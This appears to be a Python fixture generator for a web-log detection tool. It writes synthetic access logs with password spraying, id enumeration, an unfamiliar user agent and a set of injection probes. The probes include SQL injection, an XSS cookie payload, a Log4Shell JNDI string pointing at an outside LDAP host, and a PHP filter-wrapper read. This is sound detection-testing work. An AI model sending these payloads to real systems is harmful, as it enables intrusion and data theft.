#!/usr/bin/env python3
"""Writes the hand-built SampleLogs cases (deterministic: same bytes every run; standard library only).

Usage: python3 SampleLogs/handmade.py            then SampleLogs/update-expected.sh to refresh expected alerts.

Cases (each folder gets input.log, args when needed, and a README.md describing it):
  auth-basic-spraying   HTTP Basic password spraying from one address (NCSA logs record the claimed user on a 401),
                        and many addresses trying "admin" on one route; typos and refused users as traps.
  injection-probes      SQL injection, XSS and JNDI payloads in query strings; searches with quotes, parentheses
                        and JSON filters as traps.
  id-enum-query-param   a client walking ids through a query parameter (/api/orders?order_id=N); paging,
                        map tiles and cache busters as traps.
  ua-unfamiliar         a client with a user-agent family the baseline never saw, against baseline.json; known
                        families and a short-lived new one as traps.
"""
import datetime
import json
import os
import random

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases")
START = datetime.datetime(2024, 6, 3, 9, 0, 0, tzinfo=datetime.timezone.utc)
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
]
APP = "okhttp/4.12.0"


def clf(t, ip, method, target, status, size, ua, user="-", referer="-"):
    stamp = (START + datetime.timedelta(seconds=t)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - {user} [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{ua}"'


def background(rng, seconds, paths, clients=60, per_minute=40, users=False):
    """Ordinary traffic: browsers and an app on the given paths, some logged in (Basic user in the log)."""
    out = []
    for k in range(int(seconds / 60 * per_minute)):
        t = rng.uniform(0, seconds)
        c = rng.randrange(clients)
        ip = f"192.0.2.{c + 10}" if c < 200 else f"198.51.100.{c - 190}"
        ua = APP if c % 5 == 0 else BROWSERS[c % len(BROWSERS)]
        user = f"user{c:02d}" if users and c % 3 == 0 else "-"
        out.append((t, clf(t, ip, "GET", rng.choice(paths), 200, rng.randrange(200, 9000), ua, user)))
    return out


def write(name, rows, readme, args=None, extra=None):
    d = os.path.join(ROOT, name)
    os.makedirs(d, exist_ok=True)
    rows.sort(key=lambda r: r[0])
    with open(os.path.join(d, "input.log"), "w") as f:
        f.write("".join(line + "\n" for _, line in rows))
    with open(os.path.join(d, "README.md"), "w") as f:
        f.write(readme.strip() + "\n")
    if args is not None:
        with open(os.path.join(d, "args"), "w") as f:
            f.write(args + "\n")
    for fname, text in (extra or {}).items():
        with open(os.path.join(d, fname), "w") as f:
            f.write(text)


def auth_basic_spraying():
    rng = random.Random(501)
    rows = background(rng, 1800, ["/", "/docs/", "/docs/install.html", "/reports/", "/reports/2024-05.pdf"], users=True)
    # One address sprays 30 user names with one password each (3 minutes).
    for k in range(30):
        t = 300 + k * 6 + rng.random()
        rows.append((t, clf(t, "203.0.113.77", "GET", "/reports/", 401, 381, "python-requests/2.31.0", user=f"{rng.choice(['j', 'm', 'a', 's'])}{rng.choice(['smith', 'jones', 'lee', 'brown', 'garcia'])}{k}")))
    # 40 addresses each try "admin" once on /admin/ (distributed stuffing, 8 minutes).
    for k in range(40):
        t = 900 + k * 12 + rng.random()
        rows.append((t, clf(t, f"198.18.{k // 200}.{k % 200 + 1}", "GET", "/admin/", 401, 381, BROWSERS[k % 4], user="admin")))
    # Traps: users mistyping their password twice, then succeeding; an authenticated user refused (403) a few times.
    for u in range(6):
        t = 200 + u * 170
        ip = f"192.0.2.{u + 150}"
        rows.append((t, clf(t, ip, "GET", "/reports/", 401, 381, BROWSERS[u % 4], user=f"user{u:02d}")))
        rows.append((t + 7, clf(t + 7, ip, "GET", "/reports/", 401, 381, BROWSERS[u % 4], user=f"user{u:02d}")))
        rows.append((t + 15, clf(t + 15, ip, "GET", "/reports/", 200, 5120, BROWSERS[u % 4], user=f"user{u:02d}")))
    for k in range(5):
        t = 1500 + k * 20
        rows.append((t, clf(t, "192.0.2.160", "GET", "/admin/users", 403, 199, BROWSERS[0], user="user42")))
    write("auth-basic-spraying", rows, """
# auth-basic-spraying: HTTP Basic password spraying and stuffing (hand-built)

`input.log` (combined format, written by `SampleLogs/handmade.py`) is an intranet site behind HTTP Basic auth. Apache
and nginx log the user name of a Basic request even when the server rejected the password (`$remote_user` on a 401),
so that user is only a claim. Attacks: 203.0.113.77 tries 30 different user names in 3 minutes (password spraying:
one failure per user, so per-user counting never sees it); 40 addresses each try `admin` once on `/admin/` in
8 minutes (credential stuffing against one route). Traps: six users mistype their password twice and then log in;
an authenticated user is refused (403) five times. Expected: two `auth-failure-cluster` alerts, one for the
spraying address (`for 16+ user names (password spraying)`) and one for `GET /admin`; nothing on the traps.
""")


def injection_probes():
    rng = random.Random(502)
    rows = background(rng, 1800, ["/search?q=shoes", "/products/12", "/products?sort=price", "/"])
    probes = [
        ("203.0.113.90", "/products?sort=price%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-", 500),
        ("203.0.113.90", "/products?sort=price%27%20AND%20SLEEP(5)--%20-", 200),
        ("203.0.113.91", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", 200),
        ("203.0.113.92", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fa%7D", 200),
        ("203.0.113.93", "/download?file=php://filter/convert.base64-encode/resource=index", 404),
    ]
    for k, (ip, target, status) in enumerate(probes):
        t = 400 + k * 97
        rows.append((t, clf(t, ip, "GET", target, status, 512, BROWSERS[k % 4])))
    traps = ["/search?q=o%27brien+%28live%29", "/search?q=rock+%27n%27+roll", "/search?q=select+a+union+plan",
             "/products?filter=%7B%22brand%22%3A%22acme%22%7D", "/search?q=%22exact+phrase%22", "/search?q=1%3D1"]
    for k, target in enumerate(traps):
        t = 300 + k * 211
        rows.append((t, clf(t, f"192.0.2.{k + 120}", "GET", target, 200, 2048, BROWSERS[k % 4])))
    write("injection-probes", rows, """
# injection-probes: injection payloads in URLs (hand-built)

`input.log` (combined format, written by `SampleLogs/handmade.py`) is a small shop. Attacks, one request each, in
query strings percent-encoded the way scanners send them: SQL injection (`' UNION ALL SELECT NULL,NULL-- -`,
`' AND SLEEP(5)-- -`) from 203.0.113.90, a reflected XSS probe (`<script>alert(document.cookie)</script>`) from
203.0.113.91, a Log4Shell probe (`${jndi:ldap://…}`) from 203.0.113.92 and a PHP filter-wrapper read
(`php://filter/…`) from 203.0.113.93. Traps: searches with quotes, parentheses, `1=1` and the words "select" and
"union", a JSON filter parameter. Expected: one `unknown-endpoint` alert (reason `injection-payload`, with the
matched pattern) per attacking address, four in all; nothing on the traps.
""")


def id_enum_query_param():
    rng = random.Random(503)
    rows = background(rng, 1800, ["/api/orders?mine=1", "/api/account", "/api/products?page=2"], per_minute=30)
    for k, oid in enumerate(range(5001, 5121)):
        t = 200 + k * 3
        rows.append((t, clf(t, "203.0.113.55", "GET", f"/api/orders?order_id={oid}&format=json",
                            404 if k % 9 == 0 else 200, 731, APP)))
    for k in range(80):  # paging through a catalogue, with a cache buster
        t = 100 + k * 4
        rows.append((t, clf(t, "192.0.2.70", "GET", f"/api/products?page={k + 1}&_={1717405200000 + k}", 200, 4096, BROWSERS[0])))
    for k in range(90):  # map tiles
        t = 600 + k * 2
        rows.append((t, clf(t, "192.0.2.71", "GET", f"/tiles?zoom=12&x={2100 + k}&y={1300 + k // 3}", 200, 9000, BROWSERS[1])))
    write("id-enum-query-param", rows, """
# id-enum-query-param: ids walked through a query parameter (hand-built)

`input.log` (combined format, written by `SampleLogs/handmade.py`) is an API that takes record ids as query
parameters. Attack: 203.0.113.55 requests `/api/orders?order_id=5001` … `5120`, one every 3 s (one in nine
answered 404). Traps: a browser paging through `/api/products?page=1..80` with a cache buster `_=<ms>`, and a map
loading 90 tiles `/tiles?zoom=12&x=…&y=…`. Expected: one `id-enumeration` alert on
`GET /api/orders?order_id={id}`; nothing for paging, cache busters or tile coordinates.
""")


def ua_unfamiliar():
    rng = random.Random(504)
    paths = ["/api/items", "/api/items/42", "/api/account", "/"]
    rows = background(rng, 1800, paths, per_minute=40)
    for k in range(30):
        t = 500 + k * 11
        rows.append((t, clf(t, "203.0.113.66", "GET", f"/api/items/{k + 100}", 200, 640, "HarvestKit/0.9 (+https://harvest.example)")))
    for k in range(3):
        t = 900 + k * 30
        rows.append((t, clf(t, "192.0.2.99", "GET", "/", 200, 5120, "Midori/11 (X11; Linux)")))
    for k in range(12):
        t = 1200 + k * 40
        rows.append((t, clf(t, "66.249.66.1", "GET", "/", 200, 5120,
                            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")))
    baseline = {
        "reqwatch_baseline": 1,
        "routes": [{"method": "GET", "route": p} for p in ["/api/items", "/api/items/{id}", "/api/account", "/"]],
        "user_agent_families": [{"family": f, "requests": 100} for f in ["chrome", "safari", "firefox", "okhttp", "googlebot"]],
    }
    write("ua-unfamiliar", rows, """
# ua-unfamiliar: a user-agent family the baseline never saw (hand-built)

`input.log` (combined format, written by `SampleLogs/handmade.py`) is an API whose `baseline.json` (as written by
`reqwatch endpoints --save-baseline`, trimmed by hand) knows the routes and the user-agent families `chrome`,
`safari`, `firefox`, `okhttp` and `googlebot`. Attack: 203.0.113.66 fetches 30 item records with
`HarvestKit/0.9`, a family never seen before. Traps: browsers and the app (known families), Googlebot, and a
Midori browser that makes only 3 requests (below `unfamiliar-min-requests`, 10). `args` passes
`--baseline baseline.json`. Expected: one `suspicious-user-agent` alert (reason `unfamiliar`, family
`harvestkit`); nothing else.
""", args="--baseline baseline.json", extra={"baseline.json": json.dumps(baseline, indent=1) + "\n"})


if __name__ == "__main__":
    auth_basic_spraying()
    injection_probes()
    id_enum_query_param()
    ua_unfamiliar()
    print("hand-built cases written under", ROOT)
